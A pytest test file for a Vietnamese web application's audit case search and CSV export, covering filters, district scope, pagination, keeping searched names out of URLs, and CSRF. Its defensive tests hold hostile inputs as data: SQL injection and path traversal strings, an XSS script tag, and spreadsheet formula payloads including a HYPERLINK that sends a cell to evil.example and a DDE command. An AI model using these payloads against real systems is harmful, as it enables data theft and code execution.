"""The search across cases in scope and its CSV export, through HTTP: every filter, alone and combined.

Four cases: a finished one in Cẩm Xuyên, one in Lộc Ninh, two in Chiêm Hóa (one of them overdue at
the sympathiser list, the other opened two months later).
"""
import csv
import io
from datetime import timedelta
from urllib.parse import parse_qsl, quote, quote_plus

import pytest
from sqlalchemy import select, update

from webapp.extensions import db
from webapp.models import HumanTask, InstanceEvent, OrgUnit, User
from webapp.pages.formatting import VIETNAM
from webapp.services.clock import resolve_now

from ..conftest import START
from .helpers import alerts, db_state, html, redirect_path, texts


def _found(response):
    """{student name} of the rows shown, and the total the page announces."""
    assert response.status_code == 200
    names = texts(response, "//table[@data-testid='search-results']/tbody/tr[@data-case]/td[1]")
    return set(names), int(texts(response, "//*[@data-testid='search-total']")[0])


def _unit_id(code):
    return db.session.query(OrgUnit.id).filter_by(code=code).scalar()


def _no_name_in(address, name):
    """Neither the name nor any way a browser would encode it is in the address."""
    for form in (name, quote(name), quote_plus(name), quote(name.encode("utf-8")), name.lower()):
        assert form not in address, f"{name!r} travels in {address!r}"


def _search(browser, query):
    """The search as its form sends it: POSTed, then the address it redirects to (no name in it)."""
    fields = dict(parse_qsl(query, keep_blank_values=True))
    response = browser.post("/audit/cases", fields, token_from="/audit/cases")
    assert response.status_code == 303, response.status_code
    address = redirect_path(response)
    if fields.get("q", "").strip():
        _no_name_in(address, fields["q"].strip())
        assert "s=" in address
    return browser.get(address)


@pytest.fixture()
def cases(start_case, driver):
    finished = start_case("TQ-CX-THPT-1", full_name="Lê Thị Hằng", citizen_id="001307000111", sex="F")
    driver.run(finished.id)
    writing = start_case("TQ-LN-THPT", full_name="Phạm Văn Khoa", citizen_id="001207000222")
    driver.run(writing.id, until="write_application")
    overdue = start_case("TQ-CH-THPT", full_name="Trần Minh Khôi", citizen_id="001207000333")
    driver.run(overdue.id, until="add_to_sympathiser_list")
    later = start_case("TQ-CH-THPT", full_name="Nguyễn Thị Hồng", citizen_id="001307000444", sex="F",
                       now=START + timedelta(days=60))
    today = resolve_now().astimezone(VIETNAM).date()
    db.session.execute(update(HumanTask).where(HumanTask.instance_id == overdue.id, HumanTask.status == "open")
                       .values(due_on=today - timedelta(days=3)))
    db.session.execute(update(HumanTask).where(HumanTask.instance_id != overdue.id, HumanTask.status == "open")
                       .values(due_on=today + timedelta(days=30)))
    db.session.commit()
    return {"finished": finished, "writing": writing, "overdue": overdue, "later": later}


ALL = {"Lê Thị Hằng", "Phạm Văn Khoa", "Trần Minh Khôi", "Nguyễn Thị Hồng"}


@pytest.mark.parametrize("query, expected", [
    ("", ALL),
    ("status=official", {"Lê Thị Hằng"}),
    ("outcome=official", {"Lê Thị Hằng"}),
    ("outcome=rejected", set()),
    ("q=thị h", {"Lê Thị Hằng", "Nguyễn Thị Hồng"}),
    ("q=THỊ HẰNG", {"Lê Thị Hằng"}),  # case-insensitive beyond ASCII
    ("q=le thi hang", {"Lê Thị Hằng"}),  # and the marks are not needed (issue 15)
    ("q=100%", set()),  # the wildcards of LIKE are searched for, not obeyed
    ("step=write_application", {"Phạm Văn Khoa"}),
    ("step=no_such_step", set()),
    ("overdue=1", {"Trần Minh Khôi"}),
    ("from=2026-03-01", {"Nguyễn Thị Hồng"}),
    ("to=2026-01-05", {"Lê Thị Hằng", "Phạm Văn Khoa", "Trần Minh Khôi"}),  # the whole last day counts
    ("from=2026-01-06&to=2026-03-05", set()),
    ("unit={TQ-CH}", {"Trần Minh Khôi", "Nguyễn Thị Hồng"}),
    ("unit={TQ-CH}&overdue=1", {"Trần Minh Khôi"}),
    ("unit={TQ-CH}&q=hồng&from=2026-03-01", {"Nguyễn Thị Hồng"}),
    # Malformed values are ignored rather than refused: the page still answers with every case.
    ("from=yesterday&unit=abc&page=zero", ALL),
])
def test_each_filter_narrows_the_province_auditors_search(as_user, cases, query, expected):
    auditor = as_user("tq.auditor")
    assert _found(_search(auditor, query.replace("{TQ-CH}", str(_unit_id("TQ-CH"))))) == (expected, len(expected))


def test_a_district_searches_only_below_it(as_user, cases):
    district = as_user("tq-ch.standing_committee")
    assert _found(district.get("/audit/cases")) == ({"Trần Minh Khôi", "Nguyễn Thị Hồng"}, 2)
    # A unit outside its scope finds nothing rather than widening the scope.
    assert _found(district.get(f"/audit/cases?unit={_unit_id('TQ-LN')}")) == (set(), 0)
    offered = texts(district.get("/audit/cases"), "//select[@name='unit']/option")
    assert any("Huyện ủy Chiêm Hóa" in name for name in offered)
    assert not any("Lộc Ninh" in name or "Tỉnh ủy" in name for name in offered)


def test_the_filters_offer_the_units_in_tree_order_and_the_procedures_steps(as_user, cases):
    page = as_user("tq.auditor").get(f"/audit/cases?step=write_application&unit={_unit_id('TQ-CH')}")
    doc = html(page)
    units = [option.text for option in doc.xpath("//select[@name='unit']/option")][1:]
    assert units[0] == "Tỉnh ủy Tuyên Quang"
    chiem_hoa = units.index("\u2003Huyện ủy Chiêm Hóa")
    assert units[chiem_hoa + 1] == "\u2003\u2003Chi bộ Trường THPT Chiêm Hóa"  # its cell right below it
    assert doc.xpath("//select[@name='unit']/option[@selected]/@value") == [str(_unit_id("TQ-CH"))]
    steps = dict((option.get("value"), option.text) for option in doc.xpath("//select[@name='step']/option"))
    assert steps["write_application"] == "Viết đơn xin vào Đảng và lý lịch"
    assert steps["record_cell_vote"] == "Ghi kết quả biểu quyết của chi bộ"  # steps of the called processes too
    assert doc.xpath("//select[@name='step']/option[@selected]/@value") == ["write_application"]


def test_the_search_pages_through_more_than_25_cases_newest_first(as_user, start_case):
    for number in range(27):
        start_case("TQ-LN-THPT", full_name=f"Học sinh {number:02d}", citizen_id=f"0012070{number:05d}",
                   now=START + timedelta(hours=number))
    auditor = as_user("tq.auditor")
    first, second = auditor.get("/audit/cases"), auditor.get("/audit/cases?page=2")
    first_names = texts(first, "//table[@data-testid='search-results']/tbody/tr[@data-case]/td[1]")
    assert first_names[:2] == ["Học sinh 26", "Học sinh 25"] and len(first_names) == 25
    assert _found(second) == ({"Học sinh 01", "Học sinh 00"}, 27)
    searched = _search(auditor, "q=học sinh")
    assert _found(auditor.get(searched.request.full_path.rstrip("?") + "&page=3")) == (set(), 27)


def _csv(response):
    assert response.status_code == 200 and response.mimetype == "text/csv"
    raw = response.get_data()
    assert raw.startswith(b"\xef\xbb\xbf")  # so that Excel reads UTF-8
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


def test_the_csv_holds_the_same_cases_as_the_search(as_user, cases):
    auditor = as_user("tq.auditor")
    header, *rows = _csv(auditor.get(f"/audit/cases.csv?unit={_unit_id('TQ-CH')}"))
    assert header[:3] == ["Mã hồ sơ", "Họ và tên", "Số CCCD"]
    assert [row[1] for row in rows] == ["Trần Minh Khôi", "Nguyễn Thị Hồng"]  # in the order the cases opened
    assert [row[0] for row in rows] == [str(cases["overdue"].id), str(cases["later"].id)]
    assert rows[0][2].endswith("333") and "001207" not in rows[0][2]  # identity numbers masked
    assert rows[1][3] == "Nữ" and rows[1][8] == "06/03/2026"

    export = html(_search(auditor, "q=thị h&status=official")).xpath("//a[@data-testid='export-csv']/@href")[0]
    _no_name_in(export, "thị h")
    _header, *named = _csv(auditor.get(export))
    assert [row[1] for row in named] == ["Lê Thị Hằng"]
    assert named[0][5] == "Đảng viên chính thức" and named[0][7] == "Đảng viên chính thức"  # status, outcome
    _header, *overdue = _csv(auditor.get("/audit/cases.csv?overdue=1"))
    assert [row[1] for row in overdue] == ["Trần Minh Khôi"]


def test_each_export_is_recorded_with_its_filters_and_rows(as_user, cases):
    auditor = as_user("tq.auditor")
    _csv(auditor.get(f"/audit/cases.csv?unit={_unit_id('TQ-CH')}&overdue=1&from=2026-01-01"))
    exported = db.session.execute(select(InstanceEvent).where(InstanceEvent.kind == "cases_exported")).scalar_one()
    assert (exported.actor_name, exported.actor_role, exported.instance_id) == (
        db.session.execute(select(User.full_name).where(User.username == "tq.auditor")).scalar_one(), "auditor", None)
    assert exported.actor_unit_id == _unit_id("TQ")
    assert exported.payload == {"rows": 1, "filters": {"unit_id": _unit_id("TQ-CH"), "overdue": True,
                                                       "started_from": "2026-01-01"}}


def test_a_district_exports_only_its_own_cases(as_user, cases):
    _header, *rows = _csv(as_user("tq-ch.standing_committee").get("/audit/cases.csv"))
    assert {row[1] for row in rows} == {"Trần Minh Khôi", "Nguyễn Thị Hồng"}


# --- personal data out of addresses (issue 9) -------------------------------------------------------------

def _addresses(response):
    """Every address the page would make the browser ask for: links, form targets, sources."""
    return html(response).xpath("//a/@href | //form/@action | //script/@src | //link/@href | //img/@src")


def test_a_name_searched_for_never_travels_in_an_address(as_user, cases):
    auditor = as_user("tq.auditor")
    before = db_state()
    response = auditor.post("/audit/cases", {"q": "Lê Thị Hằng", "status": "official", "unit": ""},
                            token_from="/audit/cases")
    address = redirect_path(response)
    assert response.status_code == 303 and address.startswith("/audit/cases?")
    assert dict(parse_qsl(address.split("?", 1)[1])).keys() == {"status", "s"}
    _no_name_in(address, "Lê Thị Hằng")

    page = auditor.get(address)
    assert _found(page) == ({"Lê Thị Hằng"}, 1)
    assert html(page).xpath("//input[@name='q']/@value") == ["Lê Thị Hằng"]  # shown in the page, not the address
    for link in _addresses(page):
        _no_name_in(link, "Lê Thị Hằng")
    export = html(page).xpath("//a[@data-testid='export-csv']/@href")[0]
    assert "s=" in export
    _header, *rows = _csv(auditor.get(export))
    assert [row[1] for row in rows] == ["Lê Thị Hằng"]
    assert db_state()["events"] == before["events"] + 1  # the export, and nothing else, was recorded


def test_the_same_search_keeps_its_key_and_old_searches_are_forgotten(as_user, cases):
    auditor = as_user("tq.auditor")

    def key_of(name):
        response = auditor.post("/audit/cases", {"q": name}, token_from="/audit/cases")
        return dict(parse_qsl(redirect_path(response).split("?", 1)[1]))["s"]

    first = key_of("Hằng")
    assert key_of("Hằng") == first
    for name in ("Khoa", "Khôi", "Hồng", "Thị", "Văn"):  # five newer searches
        key_of(name)
    page = auditor.get(f"/audit/cases?s={first}")
    assert "Không còn nhớ tên cần tìm (đã đăng xuất hoặc tìm đã lâu): hãy nhập lại." in alerts(page)


def test_an_old_link_with_a_name_is_moved_out_of_the_address(as_user, cases):
    auditor = as_user("tq.auditor")
    response = auditor.get("/audit/cases?q=th%E1%BB%8B%20h&status=official&page=1")
    address = redirect_path(response)
    assert response.status_code == 303 and "q=" not in address and "s=" in address
    _no_name_in(address, "thị h")
    assert _found(auditor.get(address)) == ({"Lê Thị Hằng"}, 1)
    exported = auditor.get("/audit/cases.csv?q=Khôi")
    assert exported.status_code == 303 and "q=" not in redirect_path(exported)
    _header, *rows = _csv(auditor.get(redirect_path(exported)))
    assert [row[1] for row in rows] == ["Trần Minh Khôi"]


def test_a_key_means_nothing_in_another_session(app, as_user, cases):
    auditor = as_user("tq.auditor")
    address = redirect_path(auditor.post("/audit/cases", {"q": "Khôi"}, token_from="/audit/cases"))
    other = as_user("tq.org_board")
    page = other.get(address)
    assert "Không còn nhớ tên cần tìm (đã đăng xuất hoặc tìm đã lâu): hãy nhập lại." in alerts(page)
    assert html(page).xpath("//input[@name='q']/@value") == [""]
    # The CSV would otherwise be every case in scope: it is refused, nothing is exported or recorded.
    before = db_state()
    key = dict(parse_qsl(address.split("?", 1)[1]))["s"]
    refused = other.get(f"/audit/cases.csv?s={key}&status=in_progress")
    assert refused.status_code == 303 and redirect_path(refused) == "/audit/cases?status=in_progress"
    assert refused.mimetype != "text/csv" and db_state() == before
    assert "Không còn nhớ tên cần tìm" in " ".join(alerts(other.get(redirect_path(refused))))


@pytest.mark.parametrize("key", ["", "x" * 5000, "../../etc", "%00", "'; DROP TABLE student; --"])
def test_a_made_up_key_is_answered_not_a_500(as_user, cases, key):
    page = as_user("tq.auditor").get("/audit/cases", query_string={"s": key})
    assert page.status_code == 200
    assert _found(page) == (ALL, 4)


def test_the_search_form_needs_its_csrf_token(app, as_user, cases):
    auditor = as_user("tq.auditor")
    before = db_state()
    response = auditor._open("post", "/audit/cases", data={"q": "Hằng"})
    assert response.status_code == 400 and db_state() == before


@pytest.mark.parametrize("text", ["<script>alert(1)</script>", "Hằng" * 2000, "\x00\x1b[31m", "%' OR 1=1 --"])
def test_hostile_search_text_is_searched_for_as_text(as_user, cases, text):
    page = _search(as_user("tq.auditor"), "q=" + quote(text))
    assert page.status_code == 200 and _found(page) == (set(), 0)
    assert "<script>alert(1)</script>" not in page.get_data(as_text=True)


# --- CSV cells that a spreadsheet would run (issue 9) -----------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")', "+84 912 345 678", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]


def test_the_csv_never_hands_a_spreadsheet_a_formula(as_user, start_case, world):
    for number, name in enumerate(FORMULAS):
        start_case("TQ-LN-THPT", full_name=name, citizen_id=f"00120700{number:04d}")
    start_case("TQ-LN-THPT", full_name="Lê Thị Hằng", citizen_id="001307000111")
    auditor = as_user("tq.auditor")
    _header, *rows = _csv(auditor.get("/audit/cases.csv"))
    names = [row[1] for row in rows]
    stored = {name.strip() for name in FORMULAS}  # what registration kept of each name
    assert len(names) == len(FORMULAS) + 1
    for cell in names[:-1]:
        assert cell.startswith("'") and cell[1:].strip() in stored, cell
        assert cell[1:2] in "=+-@\t\r"
    assert names[-1] == "Lê Thị Hằng"  # Vietnamese text as it is, no apostrophe where none is needed
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
    # The search page shows the names as typed: only the spreadsheet copy is marked.
    shown, _total = _found(auditor.get("/audit/cases"))
    assert "Lê Thị Hằng" in shown and any(name.startswith("=HYPERLINK") for name in shown)
